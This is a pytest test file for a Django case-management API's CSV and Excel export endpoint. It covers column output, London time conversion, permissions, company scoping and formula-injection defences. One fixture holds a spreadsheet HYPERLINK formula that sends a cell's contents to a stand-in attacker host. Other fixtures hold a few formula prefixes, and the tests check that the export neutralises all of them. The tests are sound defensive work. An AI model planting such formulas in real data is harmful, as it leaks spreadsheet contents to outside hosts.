"""GET /api/cases/export: CSV and Excel files, scope, round trips, formula injection, permissions."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

from django.contrib.auth.models import Group, Permission

import openpyxl
import pytest

from accounts.tests.factories import UserFactory
from cases.exporting.columns import LondonClock
from cases.models import Case
from cases.rules import MiType, OnHoldReason, Status
from cases.tests.data import csv_bytes, row, upload
from cases.tests.factories import CaseFactory
from cases.turnaround.states import TurnaroundState, state_of
from cases.working_days import london_today

pytestmark = pytest.mark.django_db
LONDON = ZoneInfo("Europe/London")
HEADERS = [
    "Company",
    "OB Link",
    "Created At",
    "KAM ID",
    "Client Name",
    "BHRUK ID",
    "Instructed",
    "Current Status",
    "On Hold Reason",
    "Invoiced",
    "Invoice Date",
    "Invoice Number",
    "MI Type",
    "MI Amount (£)",
    "Locked",
    "Locked At",
    "Cancelled",
    "Cancellation Reason",
    "Merged",
    "Merged Into (BHRUK ID)",
    "Merged At",
    "Notes",
    "Report Type",
    "Name",
    "Email",
    "User ID",
    "Original Status",
    "Updated At",
    "Due Date",
    "Turnaround",
]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def admin(auth_client, admin_user):
    return auth_client(admin_user)


def export(client, fmt: str = "csv", include_all: bool = False):
    return client.get(f"/api/cases/export?format={fmt}&includeAll={'true' if include_all else 'false'}")


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[list[str]]:
    data = body(response)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_sheet(response):
    return openpyxl.load_workbook(io.BytesIO(body(response)))["Cases"]


def named(cells) -> dict:
    """{header: value or cell} for one exported row."""
    return dict(zip(HEADERS, cells, strict=True))


def grant(role: str, codename: str) -> None:
    Group.objects.get(name=role).permissions.add(Permission.objects.get(codename=codename))


@pytest.fixture
def book():
    """A case in every state the export must show, ordered as the export orders them (BHRUK ID descending)."""
    master = CaseFactory(bhruk_id="1009", client_name="Master Case")
    cases = {
        "sent": CaseFactory(
            bhruk_id="1008",
            client_name="Zoë £ Ångström",
            instructed=True,
            current_status=Status.SENT,
            invoiced=True,
            invoice_date=date(2025, 3, 4),
            invoice_number="INV-1",
            mi_type=MiType.DEFICIT,
            mi_amount=Decimal("-1234.50"),
            is_locked=True,
            locked_at=datetime(2025, 6, 30, 13, 5, 9, tzinfo=UTC),
            created_at=datetime(2025, 1, 31, 14, 5, 0, tzinfo=UTC),
            notes="Line one\nline two, with comma",
            report_type="Statements",
            name="Zoë",
            email="zoe@example.com",
            source_user_id="U1",
            original_status="Complete",
        ),
        "on_hold": CaseFactory(
            bhruk_id="1007",
            instructed=True,
            current_status=Status.ON_HOLD,
            on_hold_reason=OnHoldReason.NEED_PDF,
            mi_type=MiType.SURPLUS,
            mi_amount=Decimal("0.00"),
            created_at=datetime(2025, 7, 1, 8, 0, tzinfo=UTC),
        ),
        "formula": CaseFactory(
            bhruk_id="1006", client_name=FORMULA, notes="+SUM(1,2)", invoice_number="-5", kam_id="@x"
        ),
        "cancelled": CaseFactory(bhruk_id="1005", is_cancelled=True, cancellation_reason="Client request"),
        "merged": CaseFactory(
            bhruk_id="KIND1004",
            widget="Kind",
            is_merged=True,
            merged_into=master,
            merged_at=datetime(2025, 2, 1, 12, 0, tzinfo=UTC),
        ),
    }
    cases["master"] = master
    return cases


def london(value: datetime | None) -> str:
    return value.astimezone(LONDON).replace(microsecond=0).isoformat() if value else ""


def safe(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def expected_csv_row(case: Case) -> list[str]:
    case.refresh_from_db()
    yes = {True: "Yes", False: "No"}
    labels = {None: "", "deficit": "Impecunious", "surplus": "Impecunious (STUS)"}
    return [
        safe(case.widget),
        safe(case.external_user_id),
        london(case.created_at),
        safe(case.kam_id),
        safe(case.client_name),
        safe(case.bhruk_id or ""),
        yes[case.instructed],
        Status(case.current_status).label,
        OnHoldReason(case.on_hold_reason).label if case.on_hold_reason else "",
        yes[case.invoiced],
        case.invoice_date.isoformat() if case.invoice_date else "",
        safe(case.invoice_number),
        labels[case.mi_type],
        f"{case.mi_amount:.2f}" if case.mi_amount is not None else "",
        yes[case.is_locked],
        london(case.locked_at),
        yes[case.is_cancelled],
        safe(case.cancellation_reason),
        yes[case.is_merged],
        (case.merged_into.bhruk_id or "") if case.merged_into else "",
        london(case.merged_at),
        safe(case.notes),
        safe(case.report_type),
        safe(case.name),
        safe(case.email),
        safe(case.source_user_id),
        safe(case.original_status),
        london(case.updated_at),
        case.turnaround_due.isoformat() if case.turnaround_due else "",
        TurnaroundState(state_of(phase=case.turnaround_phase, due=case.turnaround_due, today=london_today())).label,
    ]


# --- CSV -------------------------------------------------------------------------------------------------


def test_active_csv_is_an_attachment_with_a_bom_and_only_active_cases(admin, book):
    response = export(admin)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="active_cases.csv"'
    rows = csv_rows(response)
    assert rows[0] == HEADERS
    assert [r[5] for r in rows[1:]] == ["1009", "1008", "1007", "1006"]


def test_all_cases_csv_round_trips_to_the_database(admin, book):
    response = export(admin, include_all=True)

    assert response["Content-Disposition"] == 'attachment; filename="all_cases.csv"'
    rows = csv_rows(response)
    order = ["master", "sent", "on_hold", "formula", "cancelled", "merged"]
    assert rows[1:] == [expected_csv_row(book[name]) for name in order]


def test_csv_shows_labels_yes_no_london_times_and_plain_numbers(admin, book):
    sent = named(csv_rows(export(admin))[2])

    assert sent["Created At"] == "2025-01-31T14:05:00+00:00"
    assert sent["Locked At"] == "2025-06-30T14:05:09+01:00"
    assert sent["Current Status"] == "Sent" and sent["MI Type"] == "Impecunious"
    assert sent["MI Amount (£)"] == "-1234.50"
    assert sent["Invoice Date"] == "2025-03-04" and sent["Instructed"] == "Yes"
    assert sent["Client Name"] == "Zoë £ Ångström"
    on_hold = named(csv_rows(export(admin))[3])
    assert on_hold["On Hold Reason"] == "Need PDF Statements" and on_hold["MI Type"] == "Impecunious (STUS)"


def test_csv_neutralises_formula_payloads_but_keeps_amounts_numeric(admin, book):
    formula = named(csv_rows(export(admin))[4])

    assert formula["Client Name"] == "'" + FORMULA
    assert formula["Notes"] == "'+SUM(1,2)"
    assert formula["Invoice Number"] == "'-5"
    assert formula["KAM ID"] == "'@x"
    assert named(csv_rows(export(admin))[2])["MI Amount (£)"] == "-1234.50"


def test_csv_is_streamed(admin, book):
    assert export(admin).streaming


def test_an_empty_book_exports_the_header_only(admin):
    assert csv_rows(export(admin)) == [HEADERS]


def test_export_runs_a_fixed_number_of_queries(admin, book, django_assert_max_num_queries):
    CaseFactory.create_batch(30, is_merged=True, merged_into=book["master"])

    with django_assert_max_num_queries(8):
        assert len(csv_rows(export(admin, include_all=True))) == 37


# --- XLSX ------------------------------------------------------------------------------------------------


def test_xlsx_has_a_bold_frozen_header_an_autofilter_and_the_file_name(admin, book):
    response = export(admin, "xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="active_cases.xlsx"'
    sheet = xlsx_sheet(response)
    assert [c.value for c in sheet[1]] == HEADERS
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:AD5"
    assert sheet.max_row == 5


def test_xlsx_round_trips_to_the_database_with_real_dates_and_numbers(admin, book):
    sheet = xlsx_sheet(export(admin, "xlsx", include_all=True))

    order = ["master", "sent", "on_hold", "formula", "cancelled", "merged"]
    for line, name in enumerate(order, start=2):
        expected = expected_csv_row(book[name])
        cells = named(sheet[line])
        for header, want in zip(HEADERS, expected, strict=True):
            cell = cells[header]
            if header in ("Created At", "Locked At", "Merged At", "Updated At"):
                got = cell.value.isoformat() if cell.value else ""
                want = datetime.fromisoformat(want).replace(tzinfo=None).isoformat() if want else ""
                assert cell.is_date or not want
            elif header in ("Invoice Date", "Due Date"):
                got = cell.value.date().isoformat() if cell.value else ""
            elif header == "MI Amount (£)":
                got = f"{Decimal(str(cell.value)):.2f}" if cell.value is not None else ""
                assert cell.value is None or cell.number_format == '"£"#,##0.00'
            else:
                got = cell.value or ""
                want = want.removeprefix("'") if want[:2] in ("'=", "'+", "'-", "'@") else want
            assert got == want, (name, header)
    assert sheet.max_row == 7


def test_xlsx_writes_a_formula_payload_as_a_string_cell_never_a_formula(admin, book):
    data = body(export(admin, "xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Cases"]

    cells = named(sheet[5])
    assert cells["Client Name"].value == FORMULA and cells["Client Name"].data_type == "s"
    assert cells["Notes"].value == "+SUM(1,2)"
    assert cells["MI Amount (£)"].value is None
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert "HYPERLINK(&quot;" in xml or 'HYPERLINK("' in xml


def test_xlsx_amounts_are_numbers_in_pounds(admin, book):
    sheet = xlsx_sheet(export(admin, "xlsx"))

    amount = named(sheet[3])["MI Amount (£)"]
    assert amount.value == -1234.5 and amount.data_type == "n"
    assert amount.number_format == '"£"#,##0.00'
    created = named(sheet[3])["Created At"]
    assert created.value == datetime(2025, 1, 31, 14, 5) and created.number_format == "yyyy-mm-dd hh:mm:ss"


def test_xlsx_drops_characters_xml_cannot_carry(admin):
    CaseFactory(client_name="Bell\x07 & <Co>", notes="  padded  ")

    cells = named(xlsx_sheet(export(admin, "xlsx"))[2])

    assert cells["Client Name"].value == "Bell & <Co>"
    assert cells["Notes"].value == "  padded  "


# --- Scope and permissions -----------------------------------------------------------------------------------


def test_a_client_cannot_export_even_if_the_client_role_is_granted_export(auth_client, client_user):
    grant("client", "export_data")
    CaseFactory(widget="Acme Ltd", bhruk_id="1001")

    response = export(auth_client(client_user), "csv", include_all=True)

    assert response.status_code == 403
    assert b"1001" not in response.content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_company_scoped_exporter_gets_only_their_company(auth_client, fmt):
    """A staff user who sees one company (view_own_cases, not view_all_cases) exports that company only."""
    grant("staff", "export_data")
    grant("staff", "view_own_cases")
    Group.objects.get(name="staff").permissions.remove(Permission.objects.get(codename="view_all_cases"))
    scoped = UserFactory(role="staff", email="scoped@example.com", company="Acme Ltd")
    other_master = CaseFactory(widget="Globex Plc", bhruk_id="2000")
    CaseFactory(widget="Acme Ltd", bhruk_id="1001")
    CaseFactory(widget="ACME LTD", bhruk_id="1002")
    CaseFactory(widget="Acme Ltd", bhruk_id="1003", is_merged=True, merged_into=other_master)
    CaseFactory(widget="Globex Plc", bhruk_id="2001")

    response = export(auth_client(scoped), fmt, include_all=True)

    assert response.status_code == 200
    if fmt == "csv":
        rows = [named(r) for r in csv_rows(response)[1:]]
    else:
        rows = [named([c.value or "" for c in r]) for r in xlsx_sheet(response).iter_rows(min_row=2)]
    assert [(r["Company"], r["BHRUK ID"]) for r in rows] == [
        ("Acme Ltd", "1003"),
        ("ACME LTD", "1002"),
        ("Acme Ltd", "1001"),
    ]
    assert rows[0]["Merged"] == "Yes" and rows[0]["Merged Into (BHRUK ID)"] == ""  # the master is not theirs


@pytest.mark.parametrize(("role", "status"), [("admin", 200), ("manager", 403), ("staff", 403), ("client", 403)])
def test_export_needs_the_export_permission(role_clients, role, status):
    response = export(role_clients[role])

    assert response.status_code == status
    if status == 403:
        assert response.json() == {"message": "You do not have permission to perform this action."}


def test_anonymous_export_is_unauthorised(api_client):
    response = export(api_client, "xlsx")

    assert response.status_code == 401
    assert "message" in response.json()


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("format=pdf", "format must be csv or xlsx."),
        ("", "format must be csv or xlsx."),
        ("format=csv&includeAll=maybe", "includeAll must be true or false."),
    ],
)
def test_a_bad_export_request_is_answered_with_400(admin, query, message):
    response = admin.get(f"/api/cases/export?{query}")

    assert response.status_code == 400
    assert response.json() == {"message": message}


def test_format_and_scope_are_case_insensitive_and_include_all_defaults_to_active(admin, book):
    response = admin.get("/api/cases/export?format=XLSX")

    assert response["Content-Disposition"] == 'attachment; filename="active_cases.xlsx"'


# --- Export, then upload again ---------------------------------------------------------------------------------


def test_an_exported_csv_uploads_again_without_creating_duplicates(admin):
    upload(admin, csv_bytes([row(1), row(2, widget="Kind"), row(3, ob_link="", user_id="U3")]))
    exported = body(export(admin, include_all=True))

    response = upload(admin, exported, name="all_cases.csv")

    assert response.status_code == 200, response.json()
    assert (response.json()["imported"], response.json()["skipped"], response.json()["skippedPresent"]) == (0, 3, 3)
    assert response.json()["message"].startswith("No new cases. Skipped 3 rows: row 2 is already in Casebook as")
    assert Case.objects.count() == 3


# --- London time ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("stored", "iso"),
    [
        ("2025-03-30 00:59:59", "2025-03-30T00:59:59+00:00"),
        ("2025-03-30 01:00:00", "2025-03-30T02:00:00+01:00"),
        ("2025-10-26 00:30:00.123456", "2025-10-26T01:30:00+01:00"),
        ("2025-10-26 01:30:00", "2025-10-26T01:30:00+00:00"),
        ("2025-12-31 23:59:59", "2025-12-31T23:59:59+00:00"),
        ("2025-06-30 23:15:00", "2025-07-01T00:15:00+01:00"),
    ],
)
def test_stored_utc_times_read_as_london_wall_time_whatever_their_form(stored, iso):
    clock = LondonClock()
    aware = datetime.fromisoformat(stored).replace(tzinfo=UTC)

    assert clock.iso(stored) == clock.iso(aware) == iso
    local = datetime.fromisoformat(iso).replace(tzinfo=None)
    serial = (local - datetime(1899, 12, 30)).total_seconds() / 86400
    assert clock.excel_serial(stored) == pytest.approx(serial, abs=1e-9)


def test_csv_times_cross_the_clock_changes_as_london_wall_time(admin):
    edges = {
        "2025-03-30 00:59:59": "2025-03-30T00:59:59+00:00",
        "2025-03-30 01:00:00": "2025-03-30T02:00:00+01:00",
        "2025-10-26 00:30:00": "2025-10-26T01:30:00+01:00",
        "2025-10-26 01:30:00": "2025-10-26T01:30:00+00:00",
        "2025-06-30 23:15:00": "2025-07-01T00:15:00+01:00",
    }
    for n, stored in enumerate(edges):
        CaseFactory(bhruk_id=str(5000 + n), created_at=datetime.fromisoformat(stored).replace(tzinfo=UTC))

    rows = [named(r) for r in csv_rows(export(admin))[1:]]

    assert {r["BHRUK ID"]: r["Created At"] for r in rows} == {
        str(5000 + n): iso for n, iso in enumerate(edges.values())
    }


@pytest.mark.postgres_only
def test_the_csv_export_leaves_the_connection_in_utc(admin, book):
    from django.db import connection

    csv_rows(export(admin))

    with connection.cursor() as cursor:
        cursor.execute("SHOW TimeZone")
        assert cursor.fetchone()[0] == "UTC"
    assert Case.objects.get(pk=book["sent"].pk).created_at == datetime(2025, 1, 31, 14, 5, tzinfo=UTC)


def test_a_company_scoped_exporter_with_no_company_exports_an_empty_file(auth_client):
    grant("staff", "export_data")
    grant("staff", "view_own_cases")
    Group.objects.get(name="staff").permissions.remove(Permission.objects.get(codename="view_all_cases"))
    CaseFactory()
    nobody = UserFactory(role="staff", email="nobody@example.com", company="")

    assert csv_rows(export(auth_client(nobody), include_all=True)) == [HEADERS]
    assert xlsx_sheet(export(auth_client(nobody), "xlsx")).max_row == 1
